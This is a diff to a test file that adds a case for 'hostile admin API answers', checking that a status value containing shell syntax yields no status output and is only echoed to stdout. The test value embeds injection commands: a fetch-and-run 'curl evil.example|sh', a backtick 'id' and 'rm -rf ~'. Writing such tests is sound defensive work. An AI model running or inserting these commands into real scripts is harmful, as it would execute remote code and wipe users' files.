@@ -175,6 +175,18 @@ describe('hostile admin API answers', () => {
     expect(result.stdout).toContain('over 1048576 bytes')
   })
 
+  it('an unlisted status with shell syntax is no status output: a script that pastes it runs nothing', async () => {
+    const hostile = 'Queued $(curl evil.example|sh) `id` "; rm -rf ~'
+    const { result } = await runAgainst(
+      (req, res) => sendJson(res, req.method === 'POST' ? 201 : 200, { id: 'job-1', status: hostile }),
+      { prompt: 'Go', timeout: '1s', 'fail-on': '' }
+    )
+    expect(result.outputs['outcome'], result.stdout).toBe('timeout')
+    expect(result.outputs['status']).toBe('')
+    expect(JSON.parse(result.outputs['result'] ?? '{}')).toMatchObject({ status: null })
+    expect(result.stdout).toContain('queued $(curl evil.example|sh)')
+  })
+
   it('an unlisted status that is also a secret never shows', async () => {
     const { result } = await runAgainst(
       (req, res) => {
